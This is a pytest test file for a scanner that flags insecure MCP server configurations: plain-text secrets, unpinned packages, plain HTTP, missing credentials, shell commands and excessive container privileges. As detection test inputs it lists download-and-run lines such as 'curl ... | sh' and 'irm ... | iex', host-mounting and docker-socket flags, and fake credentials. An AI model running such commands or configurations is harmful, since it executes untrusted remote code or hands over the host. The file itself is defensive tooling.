from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from pytest_mcpquality.health.check import Check, Outcome
from pytest_mcpquality.health.checks.configuration.auth import ConfiguredAuth
from pytest_mcpquality.health.checks.configuration.pinning import Unpinned
from pytest_mcpquality.health.checks.configuration.plain_http import ConfiguredPlainHttp
from pytest_mcpquality.health.checks.configuration.privileges import Privileges
from pytest_mcpquality.health.checks.configuration.secrets import Secrets
from pytest_mcpquality.health.checks.configuration.shell import Shell
from pytest_mcpquality.health.observation import Observation
from pytest_mcpquality.mcp.server_entry import read_entry
from pytest_mcpquality.mcp.variables import Expansion
from tests.support.observations import exposed

CHECKS: tuple[Check[Observation], ...] = (
    Secrets(), Unpinned(), ConfiguredPlainHttp(), ConfiguredAuth(), Shell(), Privileges(),
)  # fmt: skip
FAKE = "ghp_" + "a1B2" * 9
FINE: dict[str, dict[str, Any]] = {
    "npx": {"command": "npx", "args": ["-y", "@scope/server@1.2.3", "/srv"], "env": {"TOKEN": "${TOKEN}"}},
    "uvx": {
        "command": "uvx",
        "args": ["mcp-server-time@2025.9.25"],
        "env": {"API_KEY": "<your key>", "LEVEL": "debug"},
    },
    "python": {"command": "python", "args": ["-m", "server"], "env": {"TOKEN_FILE": "/run/secrets/token", "PAT": "1"}},
    "remote": {"url": "https://mcp.example/mcp", "headers": {"Authorization": "Bearer ${TOKEN}", "X-Team": "platform"}},
    "loopback": {"url": "http://127.0.0.1:8000/mcp"},
    "localhost": {"url": "http://localhost:8000/mcp"},
    "windows": {"command": "cmd", "args": ["/c", "npx", "-y", "server@1.2.3"]},
    "image": {
        "command": "docker",
        "args": ["run", "-i", "--rm", "-v", "/srv/data:/data", "-e", "TOKEN", "mcp/x:1.2.3"],
    },
}


def seen(table: dict[str, Any], **more: Any) -> Observation:  # noqa: ANN401 - whatever was seen besides
    entry = read_entry("notes", ".mcp.json", table, Expansion({"TOKEN": "secret-value-1"}, Path("/srv")), line=7)
    return Observation("notes", entry=entry, **more)


def messages(check: Check[Observation], table: dict[str, Any]) -> list[str]:
    return [hit.message for hit in check.look(seen(table)).hits]


@pytest.mark.parametrize("table", FINE.values(), ids=FINE)
@pytest.mark.parametrize("check", CHECKS, ids=lambda check: type(check).__name__)
def test_an_entry_that_is_fine_passes(check: Check[Observation], table: dict[str, Any]) -> None:
    assert check.look(seen(table)) == Outcome()


@pytest.mark.parametrize("check", CHECKS, ids=lambda check: type(check).__name__)
def test_a_server_from_no_file_has_no_entry_to_look_at(check: Check[Observation]) -> None:
    assert check.look(Observation("notes")) == Outcome()


@pytest.mark.parametrize(
    ("table", "place"),
    [
        ({"command": "x", "env": {"GITHUB_TOKEN": FAKE}}, "env.GITHUB_TOKEN"),
        ({"command": "x", "env": {"WHATEVER": FAKE}}, "env.WHATEVER"),
        ({"command": "x", "env": {"DB_PASSWORD": "hunter2hunter2"}}, "env.DB_PASSWORD"),
        ({"command": "x", "env": {"apiKey": "0123456789abcdef"}}, "env.apiKey"),
        ({"command": "x", "env": {"DATABASE_URL": "postgres://app:s3cr3tpass@db/app"}}, "env.DATABASE_URL"),
        (
            {"url": "https://x.example", "headers": {"Authorization": "Bearer 0123456789abcdef"}},
            "headers.Authorization",
        ),
        ({"url": "https://x.example", "headers": {"X-Api-Key": "0123456789abcdef"}}, "headers.X-Api-Key"),
        ({"url": "https://x.example/mcp?token=0123456789abcdef"}, "its URL"),
        ({"command": "x", "args": ["--api-key", "0123456789abcdef"]}, "the argument api-key"),
        ({"command": "x", "args": ["--token=0123456789abcdef"]}, "the argument token"),
        ({"command": "x", "args": [FAKE]}, "argument 1"),
        ({"command": "x", "args": ["postgres://app:s3cr3tpass@db/app"]}, "the URL in argument 1"),
    ],
)
def test_a_secret_is_found_where_it_stands_and_never_shown(table: dict[str, Any], place: str) -> None:
    [message] = messages(Secrets(), table)
    assert message.startswith(f".mcp.json:7: {place} holds a secret")
    assert not any(value in message for value in (FAKE, "0123456789abcdef", "s3cr3tpass", "hunter2hunter2"))


@pytest.mark.parametrize(
    ("args", "place"),
    [
        (["--api-key", FAKE], "the argument api-key"),
        (["--header", "Authorization: Bearer 0123456789abcdef="], "the argument Authorization"),
        (["--header", "X-Api-Key:0123456789abcdef"], "the argument X-Api-Key"),
        (["run", FAKE], "argument 2"),
    ],
)
def test_a_secret_among_the_arguments_is_told_once(args: list[str], place: str) -> None:
    [message] = messages(Secrets(), {"command": "npx", "args": args})
    assert message == f".mcp.json:7: {place} holds a secret in plain text"


@pytest.mark.parametrize(
    "args",
    [
        ["--header", "Authorization: Bearer ${TOKEN}"],
        ["--header", "Accept: application/json"],
        ["--api-key", "sk-" + "your-own-key-goes-here-00"],
        ["--url", "https://example.com/token"],
        ["--token", "--verbose"],
    ],
)
def test_arguments_without_a_secret(args: list[str]) -> None:
    assert messages(Secrets(), {"command": "npx", "args": args}) == []


@pytest.mark.parametrize(
    "value",
    ["${SECRET}", "$SECRET", "%SECRET%", "<token>", "your-token-here", "changeme-please", "xxxxxxxxxxxx", "", "true",
     "12345",
     "/run/secrets/token", "Bearer ${SECRET}", "example-token-value", "${input:token}", "${SECRET:-}"],
)  # fmt: skip
def test_what_stands_for_a_secret_is_none(value: str) -> None:
    assert messages(Secrets(), {"command": "x", "env": {"API_TOKEN": value}}) == []


@pytest.mark.parametrize("key", ["TOKEN_URL", "API_KEY_FILE", "MAX_TOKENS", "SECRET_NAME", "MONKEY", "AUTH_TYPE"])
def test_a_name_that_only_sounds_like_one_is_none(key: str) -> None:
    assert messages(Secrets(), {"command": "x", "env": {key: "something-long"}}) == []


@pytest.mark.parametrize(
    ("command", "package"),
    [
        (["npx", "-y", "server"], "server"),
        (["npx", "-y", "@scope/server"], "@scope/server"),
        (["npx", "@scope/server@latest"], "@scope/server@latest"),
        (["npx", "--package", "server@^1.2.0", "run-it"], "server@^1.2.0"),
        (["npx", "--package=server@1", "run-it"], "server@1"),
        (["/usr/bin/npx", "--registry", "https://r.example", "server"], "server"),
        (["npm", "exec", "--", "server"], "server"),
        (["pnpm", "dlx", "server"], "server"),
        (["bunx", "server"], "server"),
        (["cmd", "/c", "npx", "-y", "server"], "server"),
        (["env", "A=1", "npx", "server"], "server"),
        (["bash", "-c", "npx -y server --port 1"], "server"),
        (["npx -y server"], "server"),
        (["uvx", "mcp-server-time"], "mcp-server-time"),
        (["uvx", "server@latest"], "server@latest"),
        (["uvx", "--from", "server>=1", "run-it"], "server>=1"),
        (["uvx", "--from", "server==1.*", "run-it"], "server==1.*"),
        (["uvx", "--python", "3.12", "--with", "extra", "server==1.0"], "extra"),
        (["uvx", "--from", "git+https://code.example/x@main", "x"], "git+https://code.example/x@main"),
        (["uv", "tool", "run", "server"], "server"),
        (["uv", "--directory", "/srv", "run", "--with", "mcp", "server.py"], "mcp"),
        (["pipx", "run", "server"], "server"),
        (["docker", "run", "-i", "--rm", "mcp/server"], "mcp/server"),
        (["docker", "run", "-e", "A", "--mount", "src=/a", "r.example:5/x:latest", "y"], "r.example:5/x:latest"),
        (["podman", "run", "--network=none", "-it", "x:1"], "x:1"),
    ],
    ids=lambda value: " ".join(value) if isinstance(value, list) else "",
)  # fmt: skip
def test_a_package_without_a_version_is_found(command: list[str], package: str) -> None:
    [message] = messages(Unpinned(), {"command": command[0], "args": command[1:]})
    assert f"{package!r} is not pinned" in message


@pytest.mark.parametrize(
    "command",
    [
        ["npx", "server@1.2.3"],
        ["npx", "-p", "server@1.2.3-rc.1", "run-it"],
        ["npx", "./server"],
        ["npx", f"github:team/server#{'a' * 40}"],
        ["uvx", "server@1.2.3", "--flag", "x"],
        ["uvx", "--from", "server[cli]==1.2.3", "run-it"],
        ["uvx", "--from", f"git+https://code.example/x@{'a' * 40}", "x"],
        ["uvx", "--from", "./here", "x"],
        ["uv", "run", "server.py"],
        ["uv", "run", "--directory", "/srv", "server"],
        ["docker", "run", f"x@sha256:{'a' * 64}"],
        ["docker", "run", "-p", "8000:8000", "reg.example:5000/x:v1.2.3"],
        ["docker", "compose", "up"],
        ["node", "server.js"],
        ["npx"],
    ],
    ids=" ".join,
)
def test_one_version_or_none_fetched_is_fine(command: list[str]) -> None:
    assert messages(Unpinned(), {"command": command[0], "args": command[1:]}) == []


def test_plain_http_to_another_machine_is_found() -> None:
    table = {"url": "http://mcp.example:8000/mcp"}
    assert messages(ConfiguredPlainHttp(), table) == [".mcp.json:7: the URL of mcp.example begins with http://"]


@pytest.mark.parametrize("check", [ConfiguredPlainHttp(), ConfiguredAuth()], ids=["plain", "auth"])
def test_what_was_reached_is_judged_by_what_it_did(check: Check[Observation]) -> None:
    reached = exposed().exposure
    assert reached is not None
    assert check.look(seen({"url": "http://mcp.example/mcp"}, exposure=reached)) == Outcome()


def test_no_credentials_to_another_machine_are_found() -> None:
    table = {"url": "https://mcp.example/mcp", "headers": {"X-Team": "platform"}}
    assert messages(ConfiguredAuth(), table) == [".mcp.json:7: mcp.example is reached without credentials"]
    assert messages(ConfiguredAuth(), {"url": "https://mcp.example/mcp?key=${KEY}"}) == []


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        (["sh", "-c", "cd /srv && ./server"], "mcp-configuration-shell"),
        (["/bin/bash", "-lc", "server"], "mcp-configuration-shell"),
        (["powershell.exe", "-NoProfile", "-Command", "server"], "mcp-configuration-shell"),
        (["cmd", "/c", "set A=1 & server"], "mcp-configuration-shell"),
        (["bash", "-c", "curl -fsSL https://x.example/i | sh"], "mcp-configuration-download"),
        (["bash", "-c", "bash <(curl https://x.example/i)"], "mcp-configuration-download"),
        (["pwsh", "-c", "irm https://x.example/i | iex"], "mcp-configuration-download"),
    ],
    ids=lambda value: " ".join(value) if isinstance(value, list) else "",
)
def test_a_line_for_a_shell_is_found(command: list[str], rule: str) -> None:
    [hit] = Shell().look(seen({"command": command[0], "args": command[1:]})).hits
    assert hit.rule.id == rule


@pytest.mark.parametrize("command", [["bash", "start.sh"], ["sh"], ["server", "-c", "config.toml"]], ids=" ".join)
def test_a_program_that_is_given_files_is_no_shell_line(command: list[str]) -> None:
    assert messages(Shell(), {"command": command[0], "args": command[1:]}) == []


@pytest.mark.parametrize(
    ("command", "what"),
    [
        (["sudo", "server"], "sudo starts it as the administrator"),
        (["docker", "run", "--privileged", "x"], "all rights"),
        (["docker", "run", "--pid", "host", "x"], "all processes"),
        (["docker", "run", "-v", "/:/host", "x"], "/:/host mounts the whole file system"),
        (["docker", "run", "--mount", "type=bind,source=/,target=/host", "x"], "mounts the whole file system"),
        (
            ["docker", "run", "--volume=/var/run/docker.sock:/var/run/docker.sock", "x"],
            "hands over the container engine",
        ),
        (["deno", "run", "--allow-all", "server.ts"], "allows the program everything"),
    ],
    ids=lambda value: " ".join(value) if isinstance(value, list) else "",
)
def test_rights_of_the_machine_are_found(command: list[str], what: str) -> None:
    [message] = messages(Privileges(), {"command": command[0], "args": command[1:]})
    assert what in message


def test_a_command_with_an_open_quote_is_read_all_the_same() -> None:
    assert messages(Shell(), {"command": "sh -c 'server"}) == ['.mcp.json:7: a shell runs "\'server"']
    assert messages(Unpinned(), {"command": "npx 'server"}) == [
        '.mcp.json:7: the npm package "\'server" is not pinned as name@1.2.3'
    ]


def test_a_url_that_is_none_is_no_error() -> None:
    assert messages(ConfiguredAuth(), {"url": "https://[broken"}) == []
    assert messages(Secrets(), {"url": "https://[broken"}) == []
